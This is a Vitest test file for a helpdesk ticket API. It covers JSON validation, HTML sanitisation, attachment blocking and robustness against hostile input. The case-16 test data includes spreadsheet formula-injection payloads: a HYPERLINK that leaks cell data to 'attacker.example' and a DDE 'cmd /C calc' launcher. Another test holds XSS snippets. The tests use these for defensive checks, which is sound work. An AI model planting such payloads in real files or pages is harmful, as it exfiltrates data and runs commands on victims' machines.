// Case 18 (API JSON validation), case 16 (API part) and the JSON API rules, through the route.
import fs from "node:fs";
import path from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { count, eq } from "drizzle-orm";
import type { Db } from "@/db/client";
import { createTestDb } from "@/db/testing";
import { attachments, outboundMail, threadEntries, tickets, users } from "@/db/schema";
import { seedBasics } from "@/test/factories";
import { setApiEnv } from "@/test/intake-env";
import { apiRequest, json } from "@/test/intake-http";
import { POST, GET } from "./route";

const CASE18 = path.join(process.cwd(), "test/fixtures/cases/18-api-json-validation");
const CASE16 = path.join(process.cwd(), "test/fixtures/cases/16-csv-formula-injection");
const read = (dir: string, f: string) => fs.readFileSync(path.join(dir, f));

let db: Db;
let key: string;
const ticketCount = async () => (await db.select({ n: count() }).from(tickets))[0].n;
const post = (body: BodyInit, o: Parameters<typeof apiRequest>[2] = {}) => POST(apiRequest("/api/tickets.json", body, { key, ...o }));

beforeAll(async () => {
  setApiEnv();
  db = (await createTestDb()).db;
  key = (await seedBasics(db)).seed.apiKey!;
});

describe("case 18: API JSON validation", () => {
  it("request-1: a quoted local part with markup is refused and nothing is stored", async () => {
    const users0 = (await db.select({ n: count() }).from(users))[0].n;
    const res = await post(read(CASE18, "request-1-script-in-email.json"), { accept: "application/json" });
    expect(res.status).toBe(400);
    const body = await res.json();
    expect(Object.keys(body.errors)).toEqual(["email"]);
    expect(JSON.stringify(body)).not.toContain("<script>");
    expect(await ticketCount()).toBe(0);
    expect((await db.select({ n: count() }).from(users))[0].n).toBe(users0);
  });

  it("request-2: subject is required (text answer, osTicket wording)", async () => {
    const res = await post(read(CASE18, "request-2-missing-subject.json"));
    expect(res.status).toBe(400);
    expect(res.headers.get("content-type")).toContain("text/plain");
    expect(await res.text()).toBe("Unable to create new ticket: validation errors:\nsubject: Subject is required\n");
  });

  it("request-3: all three bad fields in one response", async () => {
    const res = await post(read(CASE18, "request-3-wrong-types.json"), { accept: "application/json" });
    expect(res.status).toBe(400);
    expect(await res.json()).toEqual({
      status: 400,
      message: "Unable to create new ticket: validation errors",
      errors: { subject: "Subject must be text", message: "Message must not be empty", priorityId: 'Unknown priority: "super-urgent"' },
    });
    const text = await (await post(read(CASE18, "request-3-wrong-types.json"))).text();
    expect(text.split("\n").slice(1, 4).sort()).toEqual(["message: Message must not be empty", 'priorityId: Unknown priority: "super-urgent"', "subject: Subject must be text"]);
  });

  it("request-4: unknown keys are ignored and listed as warnings", async () => {
    const res = await post(read(CASE18, "request-4-unknown-field.json"), { accept: "application/json" });
    expect(res.status).toBe(201);
    const body = await res.json();
    expect(body.status).toBe(201);
    expect(body.data.number).toMatch(/^\d{6}$/);
    expect(body.data.warnings).toEqual([{ field: "building", message: "Unknown field ignored" }]);
  });

  it("request-5: malformed JSON is a 400 saying where", async () => {
    const res = await post(read(CASE18, "request-5-malformed.json"));
    expect(res.status).toBe(400);
    expect(await res.text()).toMatch(/^Malformed JSON at line \d+, column \d+ \(position \d+\)/);
  });

  it("request-6: valid, as JSON and as a form (the path picks the format), answering the bare number", async () => {
    for (const contentType of ["application/json", "application/x-www-form-urlencoded"]) {
      const res = await post(read(CASE18, "request-6-valid-control.json"), { contentType });
      expect(res.status).toBe(201);
      const number = (await res.text()).trim();
      const [t] = await db.select().from(tickets).where(eq(tickets.number, number));
      expect(t.subject).toBe("Printer offline – Büro 2");
      const [entry] = await db.select().from(threadEntries).where(eq(threadEntries.ticketId, t.id));
      expect(entry.bodyText).toBe("Since 9:00.\nSecond line.");
    }
  });

  it("request-7: a 2000-character subject is refused stating the maximum", async () => {
    const tmpl = read(CASE18, "request-7-oversized-subject.json.tmpl").toString().replace("{{2000 x A}}", "A".repeat(2000));
    const res = await post(tmpl, { accept: "application/json" });
    expect(res.status).toBe(400);
    expect((await res.json()).errors).toEqual({ subject: "Subject is too long (maximum 255 characters)" });
  });

  it("any file without X-API-Key is a 401 'Valid API key required'", async () => {
    const res = await POST(apiRequest("/api/tickets.json", read(CASE18, "request-6-valid-control.json")));
    expect(res.status).toBe(401);
    expect(await res.text()).toBe("Valid API key required\n");
  });

  it("ends with 3 tickets (request-4 and both request-6 variants)", async () => {
    expect(await ticketCount()).toBe(3);
  });
});

describe("case 16: formula payloads are valid tickets, stored literally", () => {
  it("creates the three API tickets byte for byte; tags are a warning", async () => {
    const expected = [
      { name: "+1 555 0100 Ops", subject: '=HYPERLINK("https://attacker.example/?leak="&A2,"Click for details")' },
      { name: "\t=1+1", subject: "@SUM(1+1)*cmd|' /C calc'!A0" },
      { name: "Nadia Petrova", subject: "-5 degrees in the server room" },
    ];
    for (const [i, want] of expected.entries()) {
      const res = await post(read(CASE16, `request-${i + 1}.json`), { accept: "application/json" });
      expect(res.status).toBe(201);
      const body = await res.json();
      expect(body.data.warnings).toEqual([{ field: "tags", message: "Unknown field ignored" }]);
      const [t] = await db.select().from(tickets).where(eq(tickets.id, body.data.tid));
      const [u] = await db.select().from(users).where(eq(users.id, t.userId));
      expect(t.subject).toBe(want.subject);
      expect(u.name).toBe(want.name);
    }
    const [t2] = await db.select().from(users).where(eq(users.email, "csv.two@example.com"));
    const [e2] = await db.select().from(threadEntries).innerJoin(tickets, eq(tickets.id, threadEntries.ticketId)).where(eq(tickets.userId, t2.id));
    expect(e2.thread_entries.bodyText).toBe('Line one\nLine two, with comma and "quotes"');
  });
});

describe("JSON API rules", () => {
  const base = { name: "Ana", email: "ana@example.com", subject: "Hello", message: "Body" };

  it("accepts data-URI messages: charset, base64, both, and none (UTF-8)", async () => {
    const cases: Array<[string, string]> = [
      ["data:text/plain;charset=utf-8,Grüße aus Köln", "Grüße aus Köln"],
      [`data:text/plain;base64,${Buffer.from("Grüße").toString("base64")}`, "Grüße"],
      [`data:text/plain;charset=iso-8859-1;base64,${Buffer.from([0x47, 0x72, 0xfc, 0xdf, 0x65]).toString("base64")}`, "Grüße"],
      ["data:text/html,<p>50% <b>off</b></p>", "50% off"],
    ];
    for (const [message, text] of cases) {
      const res = await post(json({ ...base, message }), { accept: "application/json" });
      expect(res.status).toBe(201);
      const { data } = await res.json();
      const [entry] = await db.select().from(threadEntries).where(eq(threadEntries.ticketId, data.tid));
      expect(entry.bodyText).toBe(text);
    }
  });

  it("sanitizes HTML messages: scripts, handlers and javascript: links removed, formatting kept", async () => {
    const html = `data:text/html,<p onclick="x()">Hi <b>there</b><script>alert(1)</script><a href="javascript:alert(2)">x</a><img src="https://tracker.example/p.gif"></p>`;
    const res = await post(json({ ...base, message: html }), { accept: "application/json" });
    const { data } = await res.json();
    const [entry] = await db.select().from(threadEntries).where(eq(threadEntries.ticketId, data.tid));
    expect(entry.bodyHtml).toContain("<b>there</b>");
    expect(entry.bodyHtml).not.toMatch(/<script|onclick|javascript:|\ssrc="https:\/\/tracker/);
    expect(entry.hasRemoteImages).toBe(true);
  });

  it("osTicket's path without URL rewriting is rewritten to the same routes", async () => {
    const config = (await import("@/next.config")).default;
    const rewrites = (await config.rewrites!()) as Array<{ source: string; destination: string }>;
    expect(rewrites).toContainEqual({ source: "/api/http.php/:path*", destination: "/api/:path*" });
  });

  it("stores JSON attachments and leaves out blocked or oversized ones, listing them", async () => {
    const png = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR42mP4f4IBAASRAcjMRura", "base64");
    const res = await post(
      json({
        ...base,
        attachments: [
          { "logo.png": `data:image/png;base64,${png.toString("base64")}` },
          { "notes.txt": "data:text/plain;charset=utf-8,hello" },
          { "setup.exe": "data:application/octet-stream;base64,TVo=" },
        ],
      }),
      { accept: "application/json" },
    );
    expect(res.status).toBe(201);
    const { data } = await res.json();
    expect(data.droppedAttachments).toEqual([expect.objectContaining({ name: "setup.exe", reason: "blocked_type" })]);
    expect(data.warnings).toContainEqual({ field: "attachments", message: expect.stringContaining("setup.exe") });
    const files = await db.select().from(attachments).where(eq(attachments.ticketId, data.tid));
    expect(files.map((f) => [f.name, f.size, f.contentType])).toEqual([
      ["logo.png", png.length, "image/png"],
      ["notes.txt", 5, "text/plain"],
    ]);
    const notes = await db.select().from(threadEntries).where(eq(threadEntries.ticketId, data.tid));
    expect(notes.find((e) => e.type === "note")?.bodyText).toContain("setup.exe");
  });

  it("names a broken attachment", async () => {
    const res = await post(json({ ...base, attachments: [{ "a.png": "data:image/png;base64,@@@" }] }), { accept: "application/json" });
    expect(res.status).toBe(400);
    expect((await res.json()).errors["attachments[0]"]).toContain("base64");
  });

  it('treats "false" and "0" as false for alert and autorespond', async () => {
    for (const v of ["false", "0", false, 0]) {
      const res = await post(json({ ...base, email: `quiet-${String(v)}@example.com`, alert: v, autorespond: v }), { accept: "application/json" });
      const { data } = await res.json();
      const mails = await db.select().from(outboundMail).where(eq(outboundMail.ticketId, data.tid));
      expect(mails).toEqual([]);
    }
  });

  it("refuses an unknown topic, accepts a priority by name, and a case-insensitive source", async () => {
    const bad = await post(json({ ...base, topicId: 999 }), { accept: "application/json" });
    expect((await bad.json()).errors).toEqual({ topicId: "Unknown or inactive help topic: 999" });
    const ok = await post(json({ ...base, priority: "high", source: "Phone" }), { accept: "application/json" });
    const { data } = await ok.json();
    const [t] = await db.select().from(tickets).where(eq(tickets.id, data.tid));
    expect(t.source).toBe("phone");
  });

  it("answers 413 over the request size limit, 405 for a wrong method", async () => {
    const { updateSettings } = await import("@/lib/config/settings");
    await updateSettings(db, { maxRequestBytes: 1000 });
    const res = await post(json({ ...base, message: "x".repeat(2000) }));
    expect(res.status).toBe(413);
    expect(await res.text()).toMatch(/Request too large/);
    await updateSettings(db, { maxRequestBytes: 50 * 1024 * 1024 });
    const get = await GET(apiRequest("/api/tickets.json", null, { method: "GET" }));
    expect(get.status).toBe(405);
    expect(get.headers.get("allow")).toBe("POST");
  });
});

describe("hostile or sloppy input never becomes a 500", () => {
  const base = { name: "Ana", email: "hostile@example.com", subject: "Hello", message: "Body" };

  it("strips NUL characters and replaces lone surrogates in every field, data URIs included", async () => {
    const res = await post(
      json({ ...base, name: "A\u0000B", subject: "s\ud800ubject", notes: "n\u0000ote", message: "data:text/plain;base64,YQBi" }),
      { accept: "application/json" },
    );
    expect(res.status).toBe(201);
    const { data } = await res.json();
    const [t] = await db.select().from(tickets).where(eq(tickets.id, data.tid));
    expect(t.subject).toBe("s\ufffdubject");
    const entries = await db.select().from(threadEntries).where(eq(threadEntries.ticketId, data.tid));
    expect(entries.map((e) => e.bodyText)).toEqual(expect.arrayContaining([expect.stringContaining("ab"), expect.stringContaining("note")]));
    const [u] = await db.select().from(users).where(eq(users.id, t.userId));
    expect(u.name).toBe("AB");
  });

  it("honours the charset of the Content-Type and refuses invalid UTF-8", async () => {
    const latin1 = Buffer.from(json({ ...base, subject: "café" }), "latin1");
    const ok = await post(new Uint8Array(latin1), { accept: "application/json", contentType: "application/json; charset=iso-8859-1" });
    const [t] = await db.select().from(tickets).where(eq(tickets.id, (await ok.json()).data.tid));
    expect(t.subject).toBe("café");
    const bad = await post(new Uint8Array(latin1), { accept: "application/json" });
    expect(bad.status).toBe(400);
    expect((await bad.json()).message).toMatch(/not valid UTF-8/);
  });

  it.each([
    ["topicId", { topicId: 2147483648 }],
    ["topicId", { topicId: "1e3" }],
    ["priorityId", { priorityId: 99999999999 }],
  ])("an out-of-range %s is a 400 naming it", async (field, extra) => {
    const res = await post(json({ ...base, ...extra }), { accept: "application/json" });
    expect(res.status).toBe(400);
    expect(Object.keys((await res.json()).errors)).toContain(field);
  });

  it("applies the ban list to API tickets too", async () => {
    const { updateSettings } = await import("@/lib/config/settings");
    await updateSettings(db, { banList: ["@spam.example"] });
    const before = await ticketCount();
    const res = await post(json({ ...base, email: "x@spam.example" }), { accept: "application/json" });
    expect(res.status).toBe(403);
    expect((await res.json()).errors).toEqual({ email: "This address is banned" });
    expect(await ticketCount()).toBe(before);
    await updateSettings(db, { banList: [] });
  });
});
